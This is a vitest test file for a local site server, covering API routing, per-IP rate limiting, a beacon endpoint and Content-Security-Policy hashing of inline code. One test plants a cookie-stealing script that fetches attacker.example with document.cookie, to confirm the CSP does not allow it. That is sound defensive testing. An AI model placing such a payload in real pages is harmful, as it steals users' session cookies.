import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import {
  NO_INLINE_CODE,
  securityHeaderFields,
  securityHeaders,
} from '../../functions/security-headers';
import { TOO_MANY_REQUESTS_BODY } from '../../infra/api-rate-limit';
import { listen } from '../../infra/local/listen';
import { createRateLimiter } from '../../infra/local/rate-limit';
import type { RunningServer } from '../../infra/local/ses-emulator';
import {
  type ApiHandler,
  createSiteServer,
  NEW_BUILD_CHECK_MS,
} from '../../infra/local/site-server';
import { cspHash, INLINE_CODE_FILE, writeInlineCode } from '../../web/build/inline-code';
import { BEACON_PATH } from '../../web/src/config/analytics';

const LIMIT = 5;
let site: RunningServer;
let distDir: string;
const served: string[] = [];

const answer =
  (name: string): ApiHandler =>
  async (event) => {
    served.push(`${name} ${event.requestContext.http.sourceIp}`);
    return { statusCode: name === 'csp' ? 204 : 200, body: name === 'csp' ? '' : '{"ok":true}' };
  };

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/** A request from a chosen loopback address: 127.0.0.2 is another client to the twin. */
function call(path: string, from = '127.0.0.1', method = 'POST'): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const url = new URL(path, site.url);
    const req = request(
      url,
      { method, localAddress: from, headers: { 'content-type': 'application/json' } },
      (res) => {
        let body = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => {
          body += chunk;
        });
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
      },
    );
    req.on('error', reject);
    req.end(method === 'POST' ? '{}' : undefined);
  });
}

beforeAll(async () => {
  distDir = mkdtempSync(join(tmpdir(), 'site-'));
  writeFileSync(join(distDir, 'index.html'), '<h1>Landing</h1>');
  writeInlineCode(distDir, NO_INLINE_CODE);
  vi.spyOn(console, 'warn').mockImplementation(() => {});
  site = await listen(
    createSiteServer({
      distDir,
      apiRoutes: { '/api/form': answer('form'), '/api/csp-report': answer('csp') },
      apiRateLimitPerIp: LIMIT,
    }),
    0,
    'PORT',
  );
});

afterAll(async () => {
  site.server.closeAllConnections();
  await new Promise((resolve) => site.server.close(resolve));
  rmSync(distDir, { recursive: true, force: true });
  vi.restoreAllMocks();
});

describe('the local twin API routes', () => {
  it('sends /api/form and /api/csp-report to their handlers, and any other /api/ path gets a JSON 404', async () => {
    served.length = 0;
    expect((await call('/api/form', '127.0.0.10')).status).toBe(200);
    expect((await call('/api/csp-report', '127.0.0.10')).status).toBe(204);
    const missing = await call('/api/nothing', '127.0.0.10');
    expect(missing.status).toBe(404);
    expect(JSON.parse(missing.body)).toEqual({ error: 'Not found.' });
    expect(served).toEqual(['form 127.0.0.10', 'csp 127.0.0.10']);
  });
});

describe('the per-IP limit on /api/, as the WAF applies it', () => {
  it('answers a client over the limit with the WAF 429 and its JSON body, with the security headers', async () => {
    for (let i = 0; i < LIMIT; i += 1)
      expect((await call('/api/form', '127.0.0.3')).status).toBe(200);
    const refused = await call('/api/form', '127.0.0.3');
    expect(refused.status).toBe(429);
    expect(refused.headers['content-type']).toBe('application/json');
    expect(refused.body).toBe(TOO_MANY_REQUESTS_BODY);
    expect(JSON.parse(refused.body)).toHaveProperty('error');
    for (const [name, value] of Object.entries(
      securityHeaderFields(securityHeaders(NO_INLINE_CODE)),
    )) {
      expect(refused.headers[name.toLowerCase()]).toBe(value);
    }
    // Each path has its own budget, as the WAF rule counts per IP and URI path: a browser's CSP
    // reports never use up its enquiry's.
    expect((await call('/api/csp-report', '127.0.0.3')).status).toBe(204);
    for (let i = 1; i < LIMIT; i += 1) await call('/api/csp-report', '127.0.0.3');
    expect((await call('/api/csp-report', '127.0.0.3')).status).toBe(429);
  });

  it('still serves another address while one is refused', async () => {
    for (let i = 0; i <= LIMIT; i += 1) await call('/api/form', '127.0.0.4');
    expect((await call('/api/form', '127.0.0.4')).status).toBe(429);
    expect((await call('/api/form', '127.0.0.2')).status).toBe(200);
  });

  it('never limits the pages', async () => {
    for (let i = 0; i <= LIMIT; i += 1) await call('/api/form', '127.0.0.5');
    const page = await call('/', '127.0.0.5', 'GET');
    expect(page.status).toBe(200);
    expect(page.body).toContain('Landing');
  });
});

describe('the navigation beacon, answered by the edge router as CloudFront answers it', () => {
  it.each([
    ['GET', '?p=%2Fabout&r=%2F'],
    ['HEAD', '?p=%2Fabout&r=%2F'],
    ['GET', '?p=%E0%A4%A&r=%%%'],
    ['GET', `?p=${'a'.repeat(4000)}`],
  ])(
    'answers %s %s with 204, no body, no-store and the security headers',
    async (method, query) => {
      const answer = await call(`${BEACON_PATH}${query}`, '127.0.0.20', method);
      expect(answer.status).toBe(204);
      expect(answer.body).toBe('');
      expect(answer.headers['cache-control']).toBe('no-store');
      expect(answer.headers['set-cookie']).toBeUndefined();
      for (const [name, value] of Object.entries(
        securityHeaderFields(securityHeaders(NO_INLINE_CODE)),
      )) {
        expect(answer.headers[name.toLowerCase()]).toBe(value);
      }
    },
  );

  it('answers a POST as it answers a POST of a page: 405, GET and HEAD allowed', async () => {
    const beacon = await call(`${BEACON_PATH}?p=%2F&r=%2F`, '127.0.0.20', 'POST');
    const page = await call('/about', '127.0.0.20', 'POST');
    expect(beacon.status).toBe(405);
    expect(beacon.headers.allow).toBe('GET, HEAD');
    expect([beacon.status, beacon.headers.allow, beacon.body]).toEqual([
      page.status,
      page.headers.allow,
      page.body,
    ]);
  });
});

describe("the policy's inline code, as the build recorded it", () => {
  const STYLE = 'h1{color:navy}';
  const LOADER = 'console.info("loader")';
  const HOSTILE = 'fetch("https://attacker.example/?c="+document.cookie)';

  it('allows the stylesheet and loader the build inlined, and not a script a page carries besides', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'site-'));
    // A page as content could leave it: the build's code, and a script its body smuggled in.
    const page = `<style>${STYLE}</style><h1>Article</h1><script>${HOSTILE}</script><script type="module">${LOADER}</script>`;
    writeFileSync(join(dir, 'index.html'), page);
    writeInlineCode(dir, { styles: [cspHash(STYLE)], scripts: [cspHash(LOADER)] });
    const twin = await listen(createSiteServer({ distDir: dir, apiRoutes: {} }), 0, 'PORT');
    try {
      const csp = String((await fetch(twin.url)).headers.get('content-security-policy'));
      expect(csp).toContain(`style-src 'self' ${cspHash(STYLE)};`);
      expect(csp).toContain(`script-src 'self' ${cspHash(LOADER)};`);
      expect(csp).not.toContain(cspHash(HOSTILE));
    } finally {
      twin.server.closeAllConnections();
      await new Promise((resolve) => twin.server.close(resolve));
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('takes a build made beside it within a second, as a deploy would, and keeps the last one while a build is halfway', async () => {
    const NEW_STYLE = 'h1{color:teal}';
    const dir = mkdtempSync(join(tmpdir(), 'site-'));
    writeFileSync(join(dir, 'index.html'), `<style>${STYLE}</style><h1>Before</h1>`);
    writeInlineCode(dir, { styles: [cspHash(STYLE)], scripts: [] });
    const twin = await listen(createSiteServer({ distDir: dir, apiRoutes: {} }), 0, 'PORT');
    const policy = async () =>
      String((await fetch(twin.url)).headers.get('content-security-policy'));
    vi.spyOn(console, 'info').mockImplementation(() => {});
    try {
      expect(await policy()).toContain(cspHash(STYLE));
      // Halfway through a build: the record is gone. The twin keeps serving the last build's.
      rmSync(join(dir, INLINE_CODE_FILE));
      await new Promise((resolve) => setTimeout(resolve, NEW_BUILD_CHECK_MS + 100));
      expect(await policy()).toContain(cspHash(STYLE));
      // The build ends: a page with another stylesheet, and its record.
      writeFileSync(join(dir, 'index.html'), `<style>${NEW_STYLE}</style><h1>After</h1>`);
      writeInlineCode(dir, { styles: [cspHash(NEW_STYLE)], scripts: [] });
      await vi.waitFor(async () => expect(await policy()).toContain(cspHash(NEW_STYLE)), {
        timeout: 3 * NEW_BUILD_CHECK_MS,
        interval: 100,
      });
      expect(await policy()).not.toContain(cspHash(STYLE));
      expect(await (await fetch(twin.url)).text()).toContain('After');
    } finally {
      twin.server.closeAllConnections();
      await new Promise((resolve) => twin.server.close(resolve));
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('keeps the record out of the site: 404, as for a file S3 never received', async () => {
    // beforeAll wrote it, as the build does.
    const record = await call(`/${INLINE_CODE_FILE}`, '127.0.0.30', 'GET');
    expect(record.status).toBe(404);
    expect(record.body).toBe('Not Found');
  });
});

describe('createRateLimiter', () => {
  const WINDOW = 300_000;

  it('allows the limit within a window, then refuses until the window has passed', () => {
    const limiter = createRateLimiter(3, WINDOW);
    const t0 = 1_000_000;
    expect([0, 1, 2, 3].map((i) => limiter.allow('a', t0 + i))).toEqual([true, true, true, false]);
    expect(limiter.allow('b', t0 + 4)).toBe(true);
    // Refused requests count too: a client that keeps trying stays refused...
    const half = t0 + WINDOW / 2;
    expect([0, 1, 2].map((i) => limiter.allow('a', half + i))).toEqual([false, false, false]);
    expect(limiter.allow('a', t0 + WINDOW + 5)).toBe(false);
    // ...until it has been quiet long enough that fewer than 3 requests are in the window.
    expect(limiter.allow('a', half + 1 + WINDOW)).toBe(true);
  });

  it('is off at 0', () => {
    const limiter = createRateLimiter(0, WINDOW);
    expect(Array.from({ length: 1000 }, () => limiter.allow('a', 1)).every(Boolean)).toBe(true);
  });

  it('refuses a negative or fractional limit', () => {
    expect(() => createRateLimiter(-1, WINDOW)).toThrow(/whole number/);
    expect(() => createRateLimiter(1.5, WINDOW)).toThrow(/whole number/);
  });
});
